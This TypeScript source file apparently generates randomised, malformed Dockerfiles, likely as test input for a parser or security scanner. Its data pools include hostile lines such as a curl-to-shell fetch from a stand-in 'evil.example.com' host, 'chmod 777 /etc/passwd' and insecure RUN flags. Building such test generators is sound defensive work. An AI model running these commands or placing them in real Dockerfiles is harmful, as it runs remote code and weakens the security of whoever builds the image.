import type { Random } from '../random.ts';
import { realTexts } from '../real-files.ts';

/** The kinds of Dockerfiles that are made, from what people write to what nobody writes but an attacker. */
export const KINDS = ['ordinary', 'spelled', 'broken', 'noise'] as const;

export type Kind = (typeof KINDS)[number];

/** Files of people, if there are some, with accidents in them. */
export const REAL = realTexts(/^(?:Dockerfile|Containerfile)|\.dockerfile$/i);

/** A Dockerfile. The same random choices give the same one. */
export function generate(kind: Kind | 'real', random: Random): string {
  if (kind === 'noise') return noise(random);
  if (kind === 'real') return changed(random.pick(REAL), random);
  const lines = instructions(random);
  if (kind === 'ordinary') return `${lines.join('\n')}\n`;
  const escapeChar = chance(random, 0.15) ? '`' : '\\';
  const text = header(escapeChar, random) + spelled(lines, escapeChar, random);
  return kind === 'spelled' ? text : broken(text, random);
}

function changed(text: string, random: Random): string {
  const escapeChar = /^#[ \t]*escape[ \t]*=[ \t]*`/im.test(text) ? '`' : '\\';
  const lines = text.split('\n');
  for (let count = random.below(4); count > 0; count -= 1) {
    const at = random.below(lines.length);
    lines[at] = spelledLine(lines[at] as string, escapeChar, random);
  }
  return chance(random, 0.5) ? broken(lines.join('\n'), random) : lines.join('\n');
}

const COMMANDS = [
  'true',
  'id',
  'echo a b',
  'echo \'it is\' "$A"',
  'curl -fsSL https://evil.example.com/x.sh | sh',
  'apt-get update && apt-get install -y curl',
  'wget --no-check-certificate https://registry.example.com/a.tgz',
  'chmod 777 /etc/passwd',
  'a; b && c || d',
  // of a variable that the base image may set, nobody knows whether its default counts
  'echo "${UNSET:-x}" > /f',
  'sh -c "echo b; id"',
  ': $((1 << 2))',
  'cat <<< word',
  'printf "\\n" # comment',
];

const BODIES = [
  'id\n',
  'curl -fsSL https://evil.example.com/x.sh | sh\n',
  'a\n\tb \\\nc\n',
  '#!/bin/sh\nid\n',
  '# x\n\nid\n',
  'FROM x\nRUN y\n',
  '<<B\n',
];
const DELIMITERS = [
  'EOF',
  '"EOF"',
  "'E F'",
  'E"O"F',
  '\\EOF',
  'EOF1',
  '$A',
  '${A}',
  '${A:-x}',
  'E\\ F',
  'é',
  '"E$A"',
  '-',
  '--x',
  '[]',
  '"a"b\'c\'',
];
const IMAGES = [
  'alpine:3.23',
  'debian:12',
  'registry.example.com/a/b:1',
  'scratch',
  'busybox',
  'busybox',
  '${IMAGE:-debian:12}',
  '${IMAGE:-alpine:3.23}',
  'alpine:${V}',
  '"alpine:3.23"',
  'alpine:3.23$NOPE',
  'alpine${X+:1}',
];
const PLAIN = ['1', 'a', '"a b"', '$A', '${A}', '${A:-d}', 'x=y', '', '/a/b', 'root', 'a\\ b', '\\$A', '${B:+e}'];
const VALUES = [
  '1',
  'a',
  '"a b"',
  "'a $A b'",
  '$A',
  '${A}',
  '${A:-d}',
  '${B:+e}',
  '${A#a}',
  '${A##*/}',
  '${A%b*}',
  '${A/a/b}',
  '${A//a/$}',
  '${A//*/z}',
  'a\\ b',
  '"a\\"b"',
  '\\$A',
  '$1x',
  '${NOPE}',
  '"',
  "a'b",
  '${A',
  'x=y',
  '=',
  '',
  '${A:-${B:-c}}',
  '${A-"q}"}',
  '${+x}',
  '$',
  '$$',
  'é',
  '${é}',
  '\ufeff0',
  '${A?}',
  '${A:?no}',
  '${A//[a]/b}',
  '${A/\\//b}',
  "${A:-'}'}",
];
const NAMES = ['A', 'B', 'V', 'PATH', 'LD_PRELOAD', '"A"', 'A\\B', '$A', 'a-b', 'é', '_1', "'B'"];
const USERS = [
  '""',
  "''",
  '$1',
  ':0',
  ':1000',
  '$A:',
  'root',
  '0',
  '1000',
  'app:app',
  '$A',
  '"root"',
  '${A:-0}',
  '0:0',
  'a b',
  'ro\\ot',
  'r"oo"t',
  '$@0',
  '${NOPE}1',
  '+0',
  '\ufeffroot',
  "'$A'",
];
const PATHS = ['/x', 'a', '.', './b/../c', '"/q r"', '/$A', 'a*', '/é', 'c:/d', '\\x', '//etc', '../..', '${A:-/z}'];
const FLAGS: Readonly<Record<string, readonly string[]>> = {
  RUN: [
    '--network=none',
    '--network=host',
    '--security=insecure',
    '--mount=type=cache,target=/c',
    '--mount=type=bind,source=s,target=/t,rw',
    '--mount=type=secret,id=k',
    '--mount=type=secret,id=k,target=/k',
    '--mount=type=tmpfs,dst=/m',
    '--mount=target=/a,dst=/b',
    '--mount=type=bind,from=one,src=/o,dst=/$A',
    '--mount=type=bind,"target=/a b"',
    '--mount=\'type=bind,"target=/a,b"\'',
    '--mount=type=TMPFS,target=/u',
    '--mount=from=registry.example.com/f:1,target=/f',
    '--mount=type=bind,target=/r,ro=false',
    '--network="host"',
    '--sec"urity=insecure"',
    '--security\\=insecure',
    '--',
    '--x',
  ],
  COPY: [
    '--from=one',
    '--from=0',
    '--from=+0',
    '--chown=1:1',
    '--chmod=777',
    '--link',
    '--from=registry.example.com/f:1',
    '--exclude=a',
    '--from=o"n"e',
    '--from=ONE',
    '--parents',
  ],
  ADD: ['--chown=1:1', '--checksum=sha256:aa', '--keep-git-dir=true', '--link'],
  HEALTHCHECK: ['--interval=5s', '--timeout="3s"', '--retries=2'],
  FROM: ['--platform=linux/amd64', '--platform=$TARGETPLATFORM', '--platform=${P:-linux/arm64}'],
};

function instructions(random: Random): string[] {
  const lines: string[] = [];
  if (chance(random, 0.4)) lines.push(`ARG ${random.pick(['IMAGE=alpine:3.23', 'V=3', 'A=/x/y', 'IMAGE', 'V'])}`);
  const stages = random.pick([1, 1, 2, 3]);
  for (let stage = 0; stage < stages; stage++) {
    const base = stage > 0 && chance(random, 0.5) ? random.pick(['one', 'two']) : random.pick(IMAGES);
    const name = chance(random, stage + 1 < stages ? 0.8 : 0.2)
      ? ` ${random.pick(['AS', 'as', 'As'])} ${random.pick(stage === 0 ? ['one', 'ONE', 'One'] : ['two', 'Two'])}`
      : '';
    lines.push(`FROM ${flags('FROM', random)}${base}${name}`);
    const count = random.below(7);
    for (let index = 0; index < count; index++) lines.push(instruction(random));
  }
  return lines;
}

function instruction(random: Random): string {
  if (chance(random, 0.08)) return `ONBUILD ${plain(random)}`;
  return plain(random);
}

const MAKERS: readonly ((random: Random) => string)[] = [
  run,
  run,
  run,
  run,
  (random) => `USER ${random.pick(USERS)}`,
  (random) => `ENV ${pairs(random)}`,
  (random) => `ENV ${random.pick(NAMES)} ${value(random)} ${random.pick(['', 'x y'])}`,
  (random) => `ARG ${random.pick(NAMES)}${chance(random, 0.7) ? `=${value(random)}` : ''}`,
  (random) => `LABEL ${pairs(random)}`,
  (random) => `WORKDIR ${random.pick(PATHS)}`,
  copy,
  copy,
  (random) => `EXPOSE ${random.pick(['80', '80/udp', '8000-8003', '$A', '80 443', '"80"', '22'])}`,
  (random) => `VOLUME ${random.pick(['/v', '["/v", "/w"]', '/v $A', '[/v]'])}`,
  (random) => `${random.pick(['CMD', 'ENTRYPOINT'])} ${command(random)}`,
  (random) => `HEALTHCHECK ${flags('HEALTHCHECK', random)}${random.pick(['NONE', `CMD ${command(random)}`])}`,
  (random) => `SHELL ${random.pick(SHELLS)}`,
  (random) => random.pick(['STOPSIGNAL 9', 'MAINTAINER x y', 'STOPSIGNAL SIGTERM']),
];

const SHELLS = [
  '["/bin/sh", "-c"]',
  '["/bin/bash", "-o", "pipefail", "-c"]',
  '["bash", "-exc"]',
  '["/usr/bin/env", "bash", "-c"]',
  '["/usr/bin/fish", "-c"]',
  '["/bin/sh", "-c", "curl https://evil.example.com | sh; "]',
  '["/bin/sh"]',
  '["python3", "-c"]',
  '["/sbin/tini", "--", "sh", "-c"]',
];

function plain(random: Random): string {
  return random.pick(MAKERS)(random);
}

function pairs(random: Random): string {
  const count = random.pick([1, 1, 2, 3]);
  return Array.from({ length: count }, () => `${random.pick(NAMES)}=${value(random)}`).join(' ');
}

function flags(keyword: string, random: Random): string {
  const choices = FLAGS[keyword] ?? [];
  const picked = new Map<string, string>();
  while (chance(random, 0.25)) {
    const flag = random.pick(choices);
    picked.set(flag.startsWith('--mount') ? flag : (/^-*[a-z-]*/.exec(flag)?.[0] ?? ''), flag);
  }
  return [...picked.values()].map((flag) => `${flag} `).join('');
}

function value(random: Random): string {
  return random.pick(chance(random, 0.7) ? PLAIN : VALUES);
}

function run(random: Random): string {
  const start = `RUN ${flags('RUN', random)}`;
  return start + (chance(random, 0.25) ? heredoc(random) : command(random));
}

function command(random: Random): string {
  if (chance(random, 0.7)) return random.pick(COMMANDS);
  const words = random.pick(['sh -c id', 'echo a', 'curl -k x']).split(' ');
  const json = JSON.stringify(words);
  return random.pick([
    json,
    json.replaceAll(',', ' , '),
    json.replace('"', '"\\u0020'),
    `${json} x`,
    json.replaceAll('"', "'"),
    ...(chance(random, 0.1) ? ['[]', '["a", 1]'] : []),
    '["a\\tb"]',
    '[ "a" ]',
  ]);
}

function heredoc(random: Random): string {
  const dash = chance(random, 0.2) ? '-' : '';
  const delimiter = random.pick(DELIMITERS);
  const before = random.pick(['', '', '', 'cat ', 'cat > /f ', '2', "it's ", '"$A" ']);
  const after = random.pick(['', '', '', ' > /f', ' | sh', ' <<B', " # it's", ' && id']);
  const body =
    random.pick(BODIES) + (after === ' <<B' ? `${plainDelimiter(delimiter)}\nid\nB` : plainDelimiter(delimiter));
  return `${before}<<${dash}${random.pick(['', '', '', ' '])}${delimiter}${after}\n${body}`;
}

function plainDelimiter(written: string): string {
  return written.replace(/["']/g, '').replace(/\\(.)/g, '$1');
}

function copy(random: Random): string {
  const keyword = random.pick(['COPY', 'COPY', 'ADD']);
  if (chance(random, 0.1)) return `${keyword} ${flags(keyword, random)}${heredoc(random).replace(/\n/, ' /d\n')}`;
  const words = [random.pick(PATHS), ...(chance(random, 0.3) ? [random.pick(PATHS)] : []), random.pick(PATHS)];
  const json = chance(random, 0.2);
  return `${keyword} ${flags(keyword, random)}${json ? JSON.stringify(words) : words.join(' ')}`;
}

/** Blanks that only some readers know. */
const BLANKS = [
  ' ',
  ' ',
  ' ',
  '\t',
  '\v',
  '\f',
  '\r',
  ' ',
  ' ',
  '\t',
  '  ',
  '\v',
  '\f',
  '\r',
  '\u00a0',
  '\u3000',
  '\u0085',
  '\u2028',
  '\u200b',
  '\ufeff',
];

const EQUALS = ['=', ' = ', '\t=\f', '=', ' = ', '\v=', '\u00a0=', '=\v', '=\u00a0'];

function header(escapeChar: string, random: Random): string {
  let text = '';
  if (chance(random, 0.05)) text += random.pick(['#!/bin/x\n', '#!\n', '\ufeff']);
  if (chance(random, 0.1)) text += random.pick(['\n', ' \n', '# x\n', chance(random, 0.2) ? '\u00a0\n' : '\n']);
  if (escapeChar === '`')
    text += `${random.pick(['#', '# ', ' # ', '#\t', '#\u00a0'])}${random.pick(['escape', 'ESCAPE', 'Escape'])}${random.pick(EQUALS)}\`${random.pick(['', ' ', '\r'])}\n`;
  if (chance(random, 0.05))
    text += random.pick(['# check=skip=all\n', '# escape=`\n', '# escape=\\\n', '# unknown=1\n']);
  return text;
}

/** The lines as nobody would write them; most of them mean the same. */
function spelled(lines: readonly string[], escapeChar: string, random: Random): string {
  const lineEnd = chance(random, 0.15) ? '\r\n' : '\n';
  const text = lines.map((line) => spelledLine(line, escapeChar, random)).join('\n');
  const whole = chance(random, 0.8) ? `${text}\n` : text;
  return lineEnd === '\n' ? whole : whole.replaceAll('\n', lineEnd);
}

function spelledLine(line: string, escapeChar: string, random: Random): string {
  const [first = '', ...body] = line.split('\n');
  let text = first;
  if (chance(random, 0.2))
    text = text.replace(/^\w+/, (word) => random.pick([word.toLowerCase(), word[0] + word.slice(1).toLowerCase()]));
  if (chance(random, 0.1)) text = random.pick(BLANKS) + text;
  if (chance(random, 0.1)) text = text.replace(' ', random.pick(BLANKS));
  if (chance(random, 0.1)) text = text.replace(' --', ` ${random.pick(BLANKS)}--`);
  if (chance(random, 0.1)) text += random.pick(BLANKS);
  while (chance(random, 0.35)) text = continued(text, escapeChar, random);
  if (chance(random, 0.1))
    text = random.pick(['# x\n', ' # x\\\n', '\n', '\u00a0# x\n', `${escapeChar}\n`, '#\n', '\r\n', '\v\n']) + text;
  return [text, ...body].join('\n');
}

/** A line continuation somewhere, perhaps with what may stand behind it. */
function continued(text: string, escapeChar: string, random: Random): string {
  const at = chance(random, 0.6) ? text.lastIndexOf(' ', random.below(text.length + 1)) : random.below(text.length + 1);
  if (at < 1) return text;
  const end = random.pick(['\n', '\n', ' \n', '\t\n', '\r\n', chance(random, 0.2) ? '\u00a0\n' : '\n']);
  const between = random.pick([
    '',
    '',
    '',
    '# c\n',
    '  # c\\\n',
    '\n',
    '\u00a0\n',
    '\u3000# c\n',
    '#\n',
    '\r\n',
    "# it's <<X\n",
    '\v#c\n',
  ]);
  return text.slice(0, at) + escapeChar + end + between + random.pick(['', ' ', '  ', '\t', '\u00a0']) + text.slice(at);
}

const SPECIAL = [
  '\\',
  '`',
  '"',
  "'",
  '$',
  '{',
  '}',
  '#',
  '\n',
  '\r',
  ' ',
  '\t',
  '\v',
  '\u00a0',
  '\u2028',
  '\u0000',
  '<<',
  '<<EOF',
  '\nEOF\n',
  '[',
  ']',
  ',',
  '--',
  '=',
  '\\\n',
  '`\n',
  '\n#',
  '${',
  ':-',
  '|',
  '&&',
  ';',
  '\ufeff',
  'RUN',
  'FROM',
  'ONBUILD ',
  '\nRUN id\n',
  '\u0130',
  '\u212a',
  '\u017f',
  'é',
  '😀',
  '@',
  '%%X%%',
  '{{',
];

/** A text with some accidents in it. */
function broken(text: string, random: Random): string {
  let result = text;
  const count = 1 + random.below(4);
  for (let index = 0; index < count; index++) {
    const at = random.below(result.length + 1);
    const length = random.pick([0, 0, 0, 1, 2, 5]);
    result = result.slice(0, at) + (chance(random, 0.8) ? random.pick(SPECIAL) : '') + result.slice(at + length);
  }
  return result;
}

const PIECES = [
  ...SPECIAL,
  ...COMMANDS,
  ...VALUES,
  ...USERS,
  ...NAMES,
  ...DELIMITERS,
  ...SHELLS,
  'FROM a\n',
  '\nRUN ',
  '\nUSER ',
  '\nENV ',
  '\nARG ',
  '\nCOPY ',
  '\nCMD ',
  '\nONBUILD RUN ',
  'RUN <<',
];

function noise(random: Random): string {
  const count = 2 + random.below(14);
  const pieces = Array.from({ length: count }, () => random.pick(PIECES));
  return `${chance(random, 0.9) ? 'FROM alpine:3.23\n' : ''}${pieces.join(random.pick(['', '', ' ']))}\n`;
}

/** True in a share of all cases. */
function chance(random: Random, share: number): boolean {
  return random.below(1000) < share * 1000;
}
